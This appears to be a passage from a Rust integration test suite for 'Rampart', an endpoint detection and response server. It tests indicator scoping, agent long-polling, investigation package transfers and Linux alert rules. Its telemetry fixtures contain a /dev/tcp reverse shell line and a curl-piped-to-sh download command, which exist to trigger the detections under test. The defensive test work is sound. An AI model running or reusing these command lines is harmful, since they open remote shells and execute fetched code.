        {"Timestamp": "2026-12-01T12:03:01Z", "ActionType": "FileCreated", "FolderPath": "/srv/y"},
    ]}]});
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &overflow);
    assert_refused_at(status, &answer, "batches[0].first");
}

/// Indicators scoped to device groups alert only on devices of those groups; an `allow`
/// indicator keeps away the alerts whose evidence it covers (a subdomain of a blocked domain,
/// the process a Sigma rule is about), but not those about what an allowed parent started.
#[test]
fn indicators_apply_within_their_scope_and_allow_ones_keep_alerts_away() {
    let AgentSetup {
        server,
        admin,
        device,
        web01,
        ..
    } = with_web01("indicator-scope", "");
    let web = put_in_new_group(&server, &admin, &device, "web");
    let db = server.post("/api/v1/device-groups", &admin, json!({"name": "db"}));
    let indicator = |kind: &str, value: &str, action: &str, groups: Value| {
        server.post(
            "/api/v1/indicators",
            &admin,
            json!({"kind": kind, "value": value, "action": action, "severity": "high",
                   "title": format!("{action} {value}"), "scope_groups": groups}),
        );
    };
    indicator("ip", "198.51.100.20", "alert", json!([db["id"]]));
    indicator("ip", "198.51.100.21", "alert", json!([web["id"]]));
    indicator("domain", "evil.example", "block", json!([]));
    indicator("domain", "good.evil.example", "allow", json!([]));
    let allowed_tool = "a1".repeat(32);
    indicator("sha256", &allowed_tool, "allow", json!([web["id"]]));
    // Allowed only on the db group: it does not cover web01.
    let other_tool = "b2".repeat(32);
    indicator("sha256", &other_tool, "allow", json!([db["id"]]));

    let connection = |secs: u32, ip: &str, url: &str| {
        json!({"Timestamp": format!("2026-12-01T12:00:{secs:02}Z"), "ActionType": "ConnectionSuccess",
               "RemoteIP": ip, "RemoteUrl": url})
    };
    let reverse_shell = |secs: u32, pid: u32, sha256: &str| {
        json!({"Timestamp": format!("2026-12-01T12:01:{secs:02}Z"), "ActionType": "ProcessCreated",
               "FileName": "bash", "FolderPath": "/usr/bin/bash", "ProcessId": pid, "SHA256": sha256,
               "ProcessCommandLine": format!("bash -i >& /dev/tcp/203.0.113.{secs}/4444 0>&1"),
               "InitiatingProcessFileName": "sshd", "InitiatingProcessFolderPath": "/usr/sbin/sshd",
               "InitiatingProcessSHA256": allowed_tool, "InitiatingProcessId": 900})
    };
    let rows = json!({"batches": [
        {"table": "DeviceNetworkEvents", "rows": [
            connection(1, "198.51.100.20", ""),
            connection(2, "198.51.100.21", ""),
            connection(3, "192.0.2.1", "https://cdn.evil.example/x"),
            connection(4, "192.0.2.2", "https://a.good.evil.example/y"),
        ]},
        {"table": "DeviceProcessEvents", "rows": [
            reverse_shell(1, 4001, &allowed_tool),
            reverse_shell(2, 4002, &other_tool),
        ]},
    ]});
    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &rows);
    assert_eq!(status, 200, "{answer}");
    let alerts = server.get("/api/v1/alerts?limit=100", &admin);
    let mut titles: Vec<String> = alerts["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            let evidence = a["evidence"].to_string();
            let pid = ["4001", "4002"].into_iter().find(|p| evidence.contains(p));
            format!("{} {}", a["title"].as_str().unwrap(), pid.unwrap_or("-"))
        })
        .collect();
    titles.sort();
    let reverse_shells: Vec<&String> = titles
        .iter()
        .filter(|t| t.ends_with(" 4001") || t.ends_with(" 4002"))
        .collect();
    assert!(
        !reverse_shells.is_empty() && reverse_shells.iter().all(|t| t.ends_with(" 4002")),
        "the allowed process raises nothing, the other one does: {titles:?}"
    );
    assert!(
        titles.contains(&"Indicator matched: alert 198.51.100.21 -".to_string()),
        "{titles:?}"
    );
    assert!(
        titles.contains(&"Indicator matched: block evil.example -".to_string()),
        "{titles:?}"
    );
    assert!(
        !titles.iter().any(|t| t.contains("198.51.100.20")),
        "another group's indicator: {titles:?}"
    );
    let block_alerts = titles
        .iter()
        .filter(|t| t.contains("block evil.example"))
        .count();
    assert_eq!(
        block_alerts, 1,
        "the allowed subdomain raises nothing: {titles:?}"
    );
    assert_eq!(answer["alerts"]["out_of_scope"], 1, "{answer}");
    // The allowed subdomain and every rule on the allowed process.
    assert!(
        answer["alerts"]["allowed"].as_u64().unwrap() >= 2,
        "{answer}"
    );
    let metrics = server.get("/metrics", &admin);
    let metrics = metrics.as_str().unwrap();
    assert!(
        metrics
            .lines()
            .any(|l| l.starts_with("rampart_alerts_allowed_total ") && !l.ends_with(" 0")),
        "{metrics}"
    );
}

/// An agent waiting on `GET /api/v1/agents/actions` gets an action as soon as an analyst creates
/// it, exactly once (neither a second poll nor a heartbeat gets it again); waiting is bounded in
/// time and in waiters; heartbeats carry the configured policy and the block indicators.
#[test]
fn agents_get_actions_by_long_poll_and_their_policy_by_heartbeat() {
    let config = "[limits]\nmax_action_waiters = 1\n\n[agents]\nheartbeat_secs = 7\nfile_paths = [\"/etc\", \"/srv/www\"]\nlogons = false\n";
    let AgentSetup {
        server,
        admin,
        device,
        web01,
        ..
    } = with_web01("long-poll", config);
    let heartbeat = json!({"agent_version": "0.1.0"});
    let (status, hb) = agent_post(&server, &web01, "/api/v1/agents/heartbeat", &heartbeat);
    assert_eq!(status, 200, "{hb}");
    let nothing_blocked = json!({"files": [], "addresses": [], "domains": []});
    assert_eq!(
        hb,
        json!({"actions": [], "policy": {"heartbeat_secs": 7, "file_paths": ["/etc", "/srv/www"], "logons": false, "block": nothing_blocked, "telemetry": {"initiating": true, "first": true, "file_name_from_path": true}}})
    );

    // Block indicators reach the agents they apply to: everyone's and their device group's,
    // not another group's, and not alert-only or allow ones, nor kinds agents cannot block.
    let other_group = server.post(
        "/api/v1/device-groups",
        &admin,
        json!({"name": "elsewhere"}),
    );
    let sha = "AB".repeat(32);
    let indicator = |kind: &str, value: &str, action: &str, groups: Value| {
        server.post(
            "/api/v1/indicators",
            &admin,
            json!({"kind": kind, "value": value, "action": action, "severity": "high",
                   "title": format!("{action} {value}"), "scope_groups": groups}),
        )["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let file = indicator("sha256", &sha, "block", json!([]));
    let address = indicator("ip", "198.51.100.7", "block", json!([]));
    indicator("ip", "198.51.100.8", "block", json!([other_group["id"]]));
    indicator("ip", "198.51.100.9", "alert", json!([]));
    indicator("md5", &"1".repeat(32), "allow", json!([]));
    let domain = indicator("domain", "Evil.Example.", "block", json!([]));
    indicator("url", "https://evil.example/payload", "block", json!([]));
    let (_, hb) = agent_post(&server, &web01, "/api/v1/agents/heartbeat", &heartbeat);
    assert_eq!(
        hb["policy"]["block"],
        json!({
            "files": [{"id": file, "kind": "sha256", "value": sha.to_lowercase()}],
            "addresses": [{"id": address, "kind": "ip", "value": "198.51.100.7"}],
            "domains": [{"id": domain, "kind": "domain", "value": "evil.example"}],
        }),
        "{hb}"
    );
    for id in [file, address, domain] {
        let path = format!("/api/v1/indicators/{id}");
        let (status, body) = server.call("DELETE", &path, Some(&admin), None);
        assert!(status == 200 || status == 204, "{status} {body}");
    }
    let (_, hb) = agent_post(&server, &web01, "/api/v1/agents/heartbeat", &heartbeat);
    assert_eq!(hb["policy"]["block"], nothing_blocked, "{hb}");

    for bad in ["61", "-1", "soon"] {
        let (status, body) = agent_get(
            &server,
            &web01,
            &format!("/api/v1/agents/actions?wait_secs={bad}"),
        );
        assert_eq!(status, 400, "wait_secs={bad}: {body}");
        assert!(
            is_problem(&body, 400) && body["detail"].as_str().unwrap().contains("wait_secs"),
            "{body}"
        );
    }
    let (status, body) = agent_get(&server, &web01, "/api/v1/agents/actions?wait_secs=0");
    assert_eq!((status, &body), (200, &json!({"actions": []})));
    // Nothing comes: an empty answer once the wait is over.
    let (status, body) = agent_get(&server, &web01, "/api/v1/agents/actions?wait_secs=1");
    assert_eq!((status, &body), (200, &json!({"actions": []})));

    // A poll waits…
    const WAIT: Duration = Duration::from_secs(30);
    let poll = {
        let (client, url) = (web01.clone(), server.url.clone());
        std::thread::spawn(move || {
            let started = Instant::now();
            let mut r = client
                .get(&format!(
                    "{url}/api/v1/agents/actions?wait_secs={}",
                    WAIT.as_secs()
                ))
                .call()
                .expect("the server answers");
            let body: Value = r.body_mut().read_json().unwrap_or(Value::Null);
            (r.status().as_u16(), body, started.elapsed())
        })
    };
    let waiting = |n: u32| {
        let metrics = server.get("/metrics", &admin);
        metrics
            .as_str()
            .unwrap_or_default()
            .contains(&format!("\nrampart_agent_action_waiters {n}\n"))
    };
    let since = Instant::now();
    while !waiting(1) {
        assert!(
            since.elapsed() < WAIT,
            "the long-poll never started waiting"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // …and is the only one allowed to (max_action_waiters = 1): another answers at once.
    let started = Instant::now();
    let (status, body) = agent_get(
        &server,
        &web01,
        &format!("/api/v1/agents/actions?wait_secs={}", WAIT.as_secs()),
    );
    assert_eq!((status, &body), (200, &json!({"actions": []})));
    assert!(
        started.elapsed() < WAIT,
        "a poll past the waiter limit waited"
    );

    // An analyst's action reaches the waiting agent before its wait is over.
    let action = server.post(
        "/api/v1/actions",
        &admin,
        json!({"device_id": device, "kind": "kill_process", "params": {"pid": 4242}}),
    );
    let (status, body, took) = poll.join().unwrap();
    assert_eq!(status, 200, "{body}");
    assert!(
        took < WAIT,
        "the long-poll ran to its wait ({took:?}) instead of answering"
    );
    let actions = body["actions"].as_array().unwrap();
    assert_eq!(actions.len(), 1, "{body}");
    assert_eq!(actions[0]["id"], action["id"]);
    assert_eq!(actions[0]["status"], "sent");
    assert_eq!(actions[0]["params"], json!({"pid": 4242}));
    assert!(waiting(0));

    // Handed over once: neither another poll nor a heartbeat gets it again.
    let (_, again) = agent_get(&server, &web01, "/api/v1/agents/actions?wait_secs=1");
    assert_eq!(again, json!({"actions": []}));
    let (_, hb) = agent_post(&server, &web01, "/api/v1/agents/heartbeat", &heartbeat);
    assert_eq!(hb["actions"], json!([]), "{hb}");
    let id = action["id"].as_str().unwrap();
    let seen = server.get(&format!("/api/v1/actions/{id}"), &admin);
    assert_eq!(seen["status"], "sent", "{seen}");
    // An action already pending is answered at once.
    let second = server.post(
        "/api/v1/actions",
        &admin,
        json!({"device_id": device, "kind": "isolate"}),
    );
    let (_, body) = agent_get(&server, &web01, "/api/v1/agents/actions");
    assert_eq!(body["actions"][0]["id"], second["id"], "{body}");
}

/// Uploads the `.tar.gz` body as agent `client` for action `id`.
fn upload_package(server: &Server, client: &ureq::Agent, id: &str, body: &[u8]) -> (u16, Value) {
    let mut r = client
        .post(&format!(
            "{}/api/v1/agents/actions/{id}/package",
            server.url
        ))
        .content_type("application/gzip")
        .send(body)
        .expect("the server answers");
    let status = r.status().as_u16();
    (status, r.body_mut().read_json().unwrap_or(Value::Null))
}

/// `GET path` with `token`: status, Content-Type, Content-Disposition and the body's bytes.
fn download(server: &Server, token: &str, path: &str) -> (u16, String, String, Vec<u8>) {
    let mut r = server
        .http
        .get(&format!("{}{path}", server.url))
        .header("Authorization", &format!("Bearer {token}"))
        .call()
        .expect("the server answers");
    let header = |name: &str| {
        r.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string()
    };
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    let body = r.body_mut().read_to_vec().unwrap();
    (r.status().as_u16(), content_type, disposition, body)
}

/// Investigation packages: the device of a collect_package action uploads its archive (streamed,
/// bounded, checksummed); analysts in scope download the same bytes; other devices, other
/// action kinds, read-only users and closed actions are refused.
#[test]
fn investigation_packages_go_from_their_device_to_analysts() {
    use sha2::Digest as _;
    const LIMIT: usize = 65536;
    let AgentSetup {
        dir,
        server,
        admin,
        device,
        web01,
    } = with_web01(
        "packages",
        &format!("[limits]\nmax_package_bytes = {LIMIT}\n"),
    );
    let (_, web02) = enroll(&server, &dir, &admin, "web02");
    let group = server.post(
        "/api/v1/device-groups",
        &admin,
        json!({"name": "elsewhere"}),
    );
    for (name, role, groups) in [
        ("reader", "readonly", json!([])),
        ("analyst1", "analyst", json!([])),
        ("narrow", "analyst", json!([group["id"]])),
    ] {
        server.post(
            "/api/v1/users",
            &admin,
            json!({"username": name, "password": PASSWORD, "role": role, "scope_groups": groups}),
        );
    }
    let [reader, analyst, narrow] =
        ["reader", "analyst1", "narrow"].map(|u| server.login(u, PASSWORD));
    let create = |kind: &str| {
        let action = server.post(
            "/api/v1/actions",
            &admin,
            json!({"device_id": device, "kind": kind}),
        );
        action["id"].as_str().unwrap().to_string()
    };
    let (collect, kill) = (create("collect_package"), create("kill_process"));
    let package_url = format!("/api/v1/actions/{collect}/package");
    let (status, ..) = download(&server, &analyst, &package_url);
    assert_eq!(status, 404, "no package yet");

    let archive = gzip(
        &(0..20_000u32)
            .flat_map(|i| i.to_le_bytes())
            .collect::<Vec<_>>(),
    );
    assert!(archive.len() < LIMIT);
    let (status, body) = upload_package(&server, &web02, &collect, &archive);
    assert_eq!(status, 404, "another device's action: {body}");
    let (status, body) = upload_package(&server, &web01, &kill, &archive);
    assert_eq!(status, 409, "not a collect_package action: {body}");
    assert!(is_problem(&body, 409), "{body}");
    let (status, body) = upload_package(&server, &web01, &collect, b"plain text");
    assert_eq!(status, 400, "not gzip: {body}");
    let mut r = web01
        .post(&format!(
            "{}/api/v1/agents/actions/{collect}/package",
            server.url
        ))
        .content_type("application/octet-stream")
        .send(&archive[..])
        .unwrap();
    assert_eq!(
        r.status().as_u16(),
        415,
        "{:?}",
        r.body_mut().read_to_string()
    );
    let mut oversized = archive.clone();
    oversized.resize(LIMIT + 1000, 0);
    let (status, body) = upload_package(&server, &web01, &collect, &oversized);
    assert_eq!(status, 413, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("max_package_bytes"),
        "{body}"
    );

    let (status, stored) = upload_package(&server, &web01, &collect, &archive);
    assert_eq!(status, 201, "{stored}");
    let sha256 = hex::encode(sha2::Sha256::digest(&archive));
    assert_eq!(stored, json!({"bytes": archive.len(), "sha256": sha256}));
    let (status, content_type, disposition, bytes) = download(&server, &analyst, &package_url);
    assert_eq!(status, 200);
    assert_eq!(content_type, "application/gzip");
    assert_eq!(
        disposition,
        format!("attachment; filename=\"web01-{collect}.tar.gz\"")
    );
    assert!(bytes == archive, "the download differs from the upload");
    let action = server.get(&format!("/api/v1/actions/{collect}"), &admin);
    assert_eq!(action["package"]["sha256"], sha256.as_str(), "{action}");
    assert_eq!(action["package"]["bytes"], archive.len(), "{action}");

    // Analysts and above, within their device groups.
    assert_eq!(download(&server, &reader, &package_url).0, 403);
    assert_eq!(download(&server, &narrow, &package_url).0, 404);
    assert_eq!(download(&server, &admin, &package_url).0, 200);
    let actors = |what: &str| {
        let audit = server.get(
            &format!("/api/v1/audit?action={what}&target_id={collect}"),
            &admin,
        );
        let items = audit["items"].as_array().unwrap().clone();
        items
            .iter()
            .map(|e| e["actor"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(actors("action.package_upload"), [format!("agent:{device}")]);
    assert_eq!(actors("action.package_download"), ["admin", "analyst1"]);

    // Once the action is over, it takes no more packages.
    let (status, _) = agent_post(
        &server,
        &web01,
        &format!("/api/v1/agents/actions/{collect}/result"),
        &json!({"status": "succeeded", "result": {"sha256": sha256}}),
    );
    assert_eq!(status, 200);
    let (status, body) = upload_package(&server, &web01, &collect, &archive);
    assert_eq!(status, 409, "{body}");
}

/// Agent telemetry meets Rampart's own Linux rules, loaded by default: a reverse shell, a
/// download piped into a shell and a shell connecting out raise alerts with their evidence and
/// ATT&CK techniques; numbered requests are stored exactly once, whatever the agent re-sends.
#[test]
fn agent_telemetry_raises_linux_alerts_exactly_once() {
    let AgentSetup {
        server,
        admin,
        device,
        web01,
        ..
    } = with_web01("linux-telemetry", "");
    let builtin = server.get("/api/v1/rules?limit=1000", &admin);
    let own = builtin["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| {
            r["origin"]["path"]
                .as_str()
                .is_some_and(|p| p.starts_with("rampart:rules/linux/"))
        })
        .count();
    assert!(own >= 20, "Rampart's own rules are loaded: {builtin}");

    let process = |secs: u32, pid: u32, image: &str, command_line: &str| {
        json!({
            "Timestamp": format!("2026-12-01T10:00:{secs:02}Z"), "ActionType": "ProcessCreated",
            "FileName": image.rsplit('/').next(), "FolderPath": image, "ProcessId": pid,
            "ProcessCommandLine": command_line, "ProcessCreationTime": format!("2026-12-01T10:00:{secs:02}Z"),
            "AccountName": "www-data", "AccountDomain": "web01",
            "InitiatingProcessFolderPath": "/usr/bin/bash", "InitiatingProcessFileName": "bash",
            "InitiatingProcessCommandLine": "bash", "InitiatingProcessId": 4000,
            "InitiatingProcessCreationTime": "2026-12-01T09:59:00Z",
            "InitiatingProcessAccountName": "www-data",
            "AdditionalFields": {"CurrentDirectory": "/var/www"},
        })
    };
    let rows = |first: u32, n: u32| -> Vec<Value> {
        (first..first + n)
            .map(|i| process(10 + i, 5000 + i, "/usr/bin/ls", "ls -la"))
            .collect()
    };
    let attack = json!({"batches": [
        {"table": "DeviceProcessEvents", "rows": [
            process(1, 4242, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
            process(2, 4243, "/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.7/x.sh | sh"),
            process(3, 4244, "/usr/bin/ls", "ls -la"),
        ]},
        {"table": "DeviceNetworkEvents", "rows": [{
            "Timestamp": "2026-12-01T10:00:04Z", "ActionType": "ConnectionSuccess",
            "RemoteIP": "203.0.113.7", "RemotePort": 4444, "LocalIP": "10.0.0.5", "LocalPort": 50312,
            "Protocol": "Tcp", "InitiatingProcessFolderPath": "/usr/bin/bash",
            "InitiatingProcessCommandLine": "bash -i", "InitiatingProcessId": 4242,
            "InitiatingProcessCreationTime": "2026-12-01T10:00:01Z",
            "InitiatingProcessAccountName": "www-data",
        }]},
    ]});
    let telemetry = "/api/v1/agents/telemetry";
    let seq = |range: &str| [("X-Rampart-Sequence", range.to_string())];
    let post = |body: &Value, range: &str| {
        let headers = seq(range);
        let headers: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
        agent_post_with(&server, &web01, telemetry, body, &headers)
    };
    let (status, answer) = post(&attack, "1001-1004");
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        (
            &answer["rows"],
            &answer["duplicate"],
            &answer["alerts"]["raised"]
        ),
        (&json!(4), &json!(false), &json!(3)),
        "{answer}"
    );

    let alerts = server.get(&format!("/api/v1/alerts?device_id={device}"), &admin);
    let items = alerts["items"].as_array().unwrap();
    let alert = |title: &str| {
        let found = items
            .iter()
            .find(|a| a["title"] == title)
            .unwrap_or_else(|| panic!("no alert {title}: {alerts}"));
        server.get(
            &format!("/api/v1/alerts/{}", found["id"].as_str().unwrap()),
            &admin,
        )
    };
    let evidence = |a: &Value, kind: &str| -> Vec<Value> {
        a["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["kind"] == kind)
            .cloned()
            .collect()
    };
    // Whether the list `key` of alert `a` holds `value`.
    let lists = |a: &Value, key: &str, value: &str| {
        a[key].as_array().is_some_and(|l| l.contains(&json!(value)))
    };
    let shell = alert("Reverse Shell Through /dev/tcp");
    assert_eq!(shell["severity"], "high", "{shell}");
    assert_eq!(shell["device_id"], device.as_str());
    assert!(lists(&shell, "techniques", "T1059.004"), "{shell}");
    assert!(lists(&shell, "tactics", "Execution"), "{shell}");
    assert_eq!(evidence(&shell, "device")[0]["name"], "web01", "{shell}");
    assert_eq!(
        evidence(&shell, "account")[0]["name"],
        "www-data",
        "{shell}"
    );
    let processes = evidence(&shell, "process");
    let child = processes
        .iter()
        .find(|p| p["role"] == "child")
        .expect("the shell");
    assert_eq!(
        child["command_line"],
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    );
    assert_eq!(
        (child["pid"].as_i64(), child["image"].as_str()),
        (Some(4242), Some("/usr/bin/bash"))
    );
    let parent = processes
        .iter()
        .find(|p| p["role"] == "parent")
        .expect("its parent");
    assert_eq!(parent["pid"], 4000, "{shell}");
    assert_eq!(
        evidence(&shell, "file")[0]["folder_path"],
        "/usr/bin/bash",
        "{shell}"
    );
    assert_eq!(
        shell["trigger_event"]["event"]["table"], "DeviceProcessEvents",
        "{shell}"
    );
    assert_eq!(
        shell["trigger_event"]["event"]["record_id"], 1001,
        "{shell}"
    );

    let download = alert("Download Piped Into a Shell");
    assert!(lists(&download, "techniques", "T1105"), "{download}");
    let child = evidence(&download, "process")
        .into_iter()
        .find(|p| p["role"] == "child")
        .expect("the shell");
    assert_eq!(
        child["command_line"],
        "sh -c curl -fsSL http://203.0.113.7/x.sh | sh"
    );

    let outbound = alert("Shell or Interpreter Opens an Outbound Connection");
    let ips: Vec<Value> = evidence(&outbound, "ip")
        .iter()
        .map(|e| e["address"].clone())
        .collect();
    assert!(ips.contains(&json!("203.0.113.7")), "{outbound}");
    assert!(lists(&outbound, "techniques", "T1095"), "{outbound}");
    // One machine, one story: the three alerts share an incident.
    assert_eq!(shell["incident_id"], download["incident_id"]);
    assert_eq!(shell["incident_id"], outbound["incident_id"]);

    // The same request again: a duplicate, nothing stored, no alert.
    let count = || server.count(&admin, "union DeviceProcessEvents, DeviceNetworkEvents");
    assert_eq!(count(), 4);
    let (status, again) = post(&attack, "1001-1004");
    assert_eq!(status, 200, "{again}");
    assert_eq!(
        (&again["duplicate"], &again["rows"]),
        (&json!(true), &json!(0)),
        "{again}"
    );
    assert_eq!(count(), 4, "a retry stores nothing twice");
    // Overlapping: only the rows above the mark are stored.
    let mut overlap = rows(0, 4);
    overlap[0] = process(3, 4244, "/usr/bin/ls", "ls -la");
    let body = json!({"batches": [{"table": "DeviceProcessEvents", "rows": overlap}]});
    let (status, partial) = post(&body, "1004-1007");
    assert_eq!(status, 200, "{partial}");
    assert_eq!(
        (&partial["rows"], &partial["skipped"]),
        (&json!(3), &json!(1)),
        "{partial}"
    );
    assert_eq!(count(), 7);
    // The agent's numbering may skip numbers (records it dropped): two rows numbered within
    // 2000-2009 are stored, then known.
    let sparse = json!({"batches": [{"table": "DeviceProcessEvents", "rows": rows(10, 2)}]});
    let (status, gapped) = post(&sparse, "2000-2009");
    assert_eq!((status, &gapped["rows"]), (200, &json!(2)), "{gapped}");
    let (_, again) = post(&sparse, "2000-2009");
    assert_eq!(again["duplicate"], true, "{again}");
    assert_eq!(count(), 9);
    // Unnumbered telemetry is stored as sent.
    let (status, _) = agent_post(
        &server,
        &web01,
        telemetry,
        &json!({"batches": [{"table": "DeviceProcessEvents", "rows": rows(20, 1)}]}),
    );
    assert_eq!(status, 200);
    assert_eq!(count(), 10);
    // A malformed header, or a range that is not the request's rows, is refused by name.
    for range in ["1008", "9-8", "x-y", "1008-1010"] {
        let (status, problem) = post(&body, range);
        assert_eq!(status, 400, "{range}: {problem}");
        assert!(is_problem(&problem, 400), "{problem}");
        assert!(
            problem["detail"]
                .as_str()
                .unwrap()
                .contains("X-Rampart-Sequence"),
            "{range}: {problem}"
        );
    }
    assert_eq!(count(), 10);
    // The OpenAPI document names the header.
    let (_, doc) = server.call("GET", "/api/openapi.json", None, None);
    let parameters = &doc["paths"][telemetry]["post"]["parameters"];
    assert!(
        parameters.as_array().is_some_and(|p| p
            .iter()
            .any(|p| p["name"] == "X-Rampart-Sequence" && p["in"] == "header")),
        "{parameters}"
    );
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).expect("dir") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else if path
            .extension()
            .is_some_and(|e| e.eq_ignore_ascii_case("evtx"))
        {
            out.push(path);
        }
    }
    out
}

/// Every record of an `.evtx` file as the evtx crate renders it (separated attributes), one
/// JSON object per line: what a forwarder posts to `/api/v1/ingest/events`.
fn evtx_as_json_lines(file: &Path) -> String {
    let settings = evtx::ParserSettings::new().separate_json_attributes(true);
    let mut parser = evtx::EvtxParser::from_path(file)
        .expect("evtx")
        .with_configuration(settings);
    let mut out = String::new();
    for record in parser.records_json_value().flatten() {
        out.push_str(&record.data.to_string());
        out.push('\n');
    }
    out
}

/// Posts forwarded events (`encoding`: a Content-Encoding, the body already encoded); returns
/// the status, the answer and its Retry-After.
fn post_events(
    server: &Server,
    token: &str,
    name: &str,
    encoding: Option<&str>,
    body: Vec<u8>,
) -> (u16, Value, Option<String>) {
    let url = format!("{}/api/v1/ingest/events?name={name}", server.url);
    let mut req = server
        .http
        .post(&url)
        .header("Authorization", &format!("Bearer {token}"))
        .content_type("application/x-ndjson");
    if let Some(encoding) = encoding {
        req = req.header("Content-Encoding", encoding);
    }
    let size = body.len();
    let mut response = req
        .send(body)
        .unwrap_or_else(|e| panic!("{encoding:?} body of {size} bytes: {e}"));
    let retry = response
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .map(str::to_string);
    let status = response.status().as_u16();
    let answer = response.body_mut().read_json().unwrap_or(Value::Null);
    (status, answer, retry)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// The records of EVTX files posted as JSON lines (one request per file, as a forwarder would
/// batch them) are stored and raise the same detections and alerts as the files uploaded.
#[test]
fn forwarded_json_events_raise_what_their_evtx_files_raise() {
    let Some(samples) = rampart_testdata::dataset("datasets/evtx-attack-samples") else {
        return;
    };
    let Some(rules) = rampart_testdata::dataset("rules/sigma/rules/windows") else {
        return;
    };
    let mut files = walk(&samples);
    files.sort();
    files.truncate(30);
    let rules = rules.to_str().unwrap().to_string();
    let run = |forwarded: bool| {
        let dir = scratch(if forwarded { "fwd-json" } else { "fwd-evtx" });
        let server = Server::start(&dir, false, &["--rules", &rules]);
        let admin = server.login("admin", PASSWORD);
        let (mut records, mut detections, mut raised) = (0, 0, 0);
        for file in &files {
            let (status, body) = if forwarded {
                let lines = evtx_as_json_lines(file);
                let (status, body, _) =
                    post_events(&server, &admin, "fwd", None, lines.into_bytes());
                assert_eq!(body["set_aside"], 0, "{}: {body}", file.display());
                (status, body)
            } else {
                server.upload(&admin, file)
            };
            assert_eq!(status, 200, "{}: {body}", file.display());
            records += body["records"].as_u64().unwrap();
            detections += body["detections"].as_u64().unwrap();
            raised += body["alerts"]["raised"].as_u64().unwrap();
        }
        let alerts = server.get("/api/v1/alerts?limit=1000", &admin);
        // Every detection is an alert or a repeat folded into one (batches fold theirs).
        let events: u64 = alerts["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["event_count"].as_u64().unwrap())
            .sum();
        assert_eq!(events, detections, "detections against alert event counts");
        assert!(alerts["next"].is_null(), "more than one page of alerts");
        let mut alerts: Vec<String> = alerts["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| {
                format!(
                    "{} | {} | {} | {}",
                    a["title"], a["device_name"], a["first_event_time"], a["event_count"]
                )
            })
            .collect();
        alerts.sort();
        let stored = server.count(&admin, "union Device*, Identity*");
        (records, detections, raised, alerts, stored)
    };
    let uploaded = run(false);
    let forwarded = run(true);
    eprintln!(
        "{} files: {} records, {} detections, {} alerts",
        files.len(),
        uploaded.0,
        uploaded.1,
        uploaded.2
    );
    assert!(uploaded.2 > 10, "only {} alerts", uploaded.2);
    assert_eq!(uploaded.0, uploaded.4);
    assert_eq!(forwarded, uploaded);
}

/// Bad lines are set aside with their numbers and the rest stored; gzip and zstd bodies are
/// read; limits on size (after decompression: a bomb gets 413) and on events per request hold;
/// a full ingest queue answers 429 with Retry-After.
#[test]
fn forwarded_json_events_bad_lines_compression_and_limits() {
    let dir = scratch("fwd-limits");
    let config = dir.with_extension("toml");
    std::fs::write(
        &config,
        "[limits]\nmax_events_bytes = 65536\nmax_events_per_request = 5\n\
         ingest_concurrency = 1\nmax_waiting_ingest = 0\n",
    )
    .unwrap();
    let server = Server::start(&dir, false, &["--config", config.to_str().unwrap()]);
    let admin = server.login("admin", PASSWORD);
    let event = |id: u64, image: &str| {
        json!({"Event": {"System": {
            "Provider_attributes": {"Name": "Microsoft-Windows-Sysmon"},
            "EventID": 1, "EventRecordID": id, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "ws01.example.org",
            "TimeCreated_attributes": {"SystemTime": "2024-05-01T10:00:00.000000Z"}},
            "EventData": {"Image": image, "CommandLine": format!("{image} /c whoami"),
                "ProcessId": 4242, "User": "EXAMPLE\\bob"}}})
        .to_string()
    };
    let body = [
        event(1, "C:\\Windows\\System32\\cmd.exe"),
        "{\"Event\": {\"System\": ".to_string(),
        String::new(),
        "{\"Event\": {\"System\": {\"EventID\": 1}}}".to_string(),
        event(2, "C:\\Windows\\System32\\whoami.exe"),
    ]
    .join("\n");
    let (status, answer, _) = post_events(&server, &admin, "fwd01", None, body.into_bytes());
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        (answer["records"].as_u64(), answer["set_aside"].as_u64()),
        (Some(2), Some(2))
    );
    assert_eq!(
        answer["rows_per_table"]["DeviceProcessEvents"], 2,
        "{answer}"
    );
    let errors = answer["errors"].as_array().unwrap();
    assert_eq!(
        errors
            .iter()
            .map(|e| e["line"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        [2, 4]
    );
    assert!(
        errors[1]["error"].as_str().unwrap().contains("TimeCreated"),
        "{answer}"
    );
    assert_eq!(server.count(&admin, "DeviceProcessEvents"), 2);

    let two = format!("{}\n{}\n", event(3, "C:\\a.exe"), event(4, "C:\\b.exe"));
    let (status, answer, _) =
        post_events(&server, &admin, "fwd01", Some("gzip"), gzip(two.as_bytes()));
    assert_eq!(
        (status, answer["records"].as_u64()),
        (200, Some(2)),
        "{answer}"
    );
    let zstd = zstd::encode_all(two.as_bytes(), 3).unwrap();
    let (status, answer, _) = post_events(&server, &admin, "fwd01", Some("zstd"), zstd);
    assert_eq!(
